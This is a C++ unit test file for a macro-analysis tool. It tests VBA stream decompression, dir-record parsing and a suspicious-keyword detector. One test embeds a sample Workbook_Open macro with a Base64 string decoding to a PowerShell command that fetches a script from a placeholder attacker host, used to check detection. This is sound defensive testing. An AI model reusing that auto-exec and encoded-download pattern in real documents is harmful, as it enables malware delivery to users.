// [MS-OVBA] 3.2 decompression examples, the dir stream parser and the keyword matcher.
#include "analyzers/ole/vba_decompress.h"
#include "core/charset.h"

#include <gtest/gtest.h>

#include "analyzers/ole/vba_dir.h"
#include "analyzers/ole/vba_keywords.h"

namespace lg {
namespace {

Bytes hex(std::initializer_list<int> v) {
  Bytes b;
  for (int x : v) b.push_back(static_cast<std::uint8_t>(x));
  return b;
}

TEST(VbaDecompress, SpecExampleNoCompression) {  // [MS-OVBA] 3.2.1
  Bytes in =
      hex({0x01, 0x19, 0xB0, 0x00, 0x61, 0x62, 0x63, 0x64, 0x65, 0x66, 0x67, 0x68, 0x00, 0x69, 0x6A,
           0x6B, 0x6C, 0x6D, 0x6E, 0x6F, 0x70, 0x00, 0x71, 0x72, 0x73, 0x74, 0x75, 0x76, 0x2E});
  VbaDecompressed d = vba_decompress(in, 1 << 20);
  EXPECT_TRUE(d.ok);
  EXPECT_EQ(to_string(d.data), "abcdefghijklmnopqrstuv.");
}

TEST(VbaDecompress, SpecExampleMaximumCompression) {  // [MS-OVBA] 3.2.3
  Bytes in = hex({0x01, 0x03, 0xB0, 0x02, 0x61, 0x45, 0x00});
  VbaDecompressed d = vba_decompress(in, 1 << 20);
  EXPECT_TRUE(d.ok);
  EXPECT_EQ(to_string(d.data), std::string(73, 'a'));
  // Capped output, and a copy token reaching before the chunk start.
  EXPECT_TRUE(vba_decompress(in, 10).capped);
  EXPECT_EQ(vba_decompress(in, 10).data.size(), 10u);
  Bytes bad = hex({0x01, 0x03, 0xB0, 0x01, 0x45, 0x00});
  EXPECT_FALSE(vba_decompress(bad, 1 << 20).ok);
  EXPECT_FALSE(vba_decompress(hex({0x02, 0x00}), 100).ok);
}

TEST(VbaDir, UnknownRecordsAndTruncation) {
  Bytes d;
  auto rec = [&](std::uint16_t id, Bytes data) {
    d.push_back(static_cast<std::uint8_t>(id));
    d.push_back(static_cast<std::uint8_t>(id >> 8));
    std::uint32_t n = static_cast<std::uint32_t>(data.size());
    for (int i = 0; i < 4; ++i) d.push_back(static_cast<std::uint8_t>(n >> (8 * i)));
    d.insert(d.end(), data.begin(), data.end());
  };
  rec(0x0003, hex({0xB5, 0x03}));                                    // code page 949
  d.insert(d.end(), {0x09, 0x00, 0x04, 0, 0, 0, 1, 0, 0, 0, 2, 0});  // PROJECTVERSION: 6 bytes
  rec(0x004A, hex({1, 0, 0, 0}));
  rec(0x0777, hex({1, 2, 3}));
  rec(0x000F, hex({1, 0}));
  rec(0x0019, hex({'M', 'o', 'd'}));
  rec(0x0047, hex({'M', 0, 0x74, 0xC7}));  // "M" + U+C774
  rec(0x0031, hex({0x10, 0x02, 0, 0}));
  rec(0x0022, {});
  rec(0x002B, {});
  rec(0x0010, {});
  VbaDir dir = parse_vba_dir(d);
  EXPECT_EQ(dir.code_page, 949);
  EXPECT_EQ(dir.compat_version, 1u);
  ASSERT_EQ(dir.modules.size(), 1u);
  EXPECT_EQ(dir.modules[0].name, "M\xEC\x9D\xB4");
  EXPECT_EQ(dir.modules[0].stream_name, dir.modules[0].name);  // no MODULESTREAMNAME
  EXPECT_EQ(dir.modules[0].text_offset, 0x210u);
  EXPECT_TRUE(dir.modules[0].document);
  EXPECT_TRUE(dir.anomalies.empty());
  Bytes cut(d.begin(), d.begin() + 33);
  EXPECT_FALSE(parse_vba_dir(cut).anomalies.empty());
  EXPECT_EQ(windows_code_page_charset(949), "windows-949");
}

TEST(VbaKeywords, WordBoundariesAndDecoding) {
  VbaAnalysis a = analyze_vba_source(
      "Sub Workbook_Open()\nx = \"ShellyBean\"\nDim KillerApp\n"
      "y = \"cG93ZXJzaGVsbCAtZW5jIGh0dHA6Ly9ldmlsLmV4YW1wbGUvcC5wczE=\"\nEnd Sub\n");
  auto has = [&](std::string_view k) {
    return std::any_of(a.hits.begin(), a.hits.end(), [&](const auto& h) { return h.keyword == k; });
  };
  EXPECT_TRUE(has("Workbook_Open"));
  EXPECT_FALSE(has("Shell"));  // "ShellyBean" is not Shell
  EXPECT_FALSE(has("Kill"));
  EXPECT_TRUE(has("long Base64 string"));
  EXPECT_TRUE(has("powershell"));  // found inside the decoded literal
  ASSERT_EQ(a.decoded_strings.size(), 1u);
  EXPECT_EQ(a.decoded_strings[0], "powershell -enc http://evil.example/p.ps1");
  EXPECT_TRUE(a.has_autoexec());
  EXPECT_TRUE(a.has_execute());
}

}  // namespace
}  // namespace lg
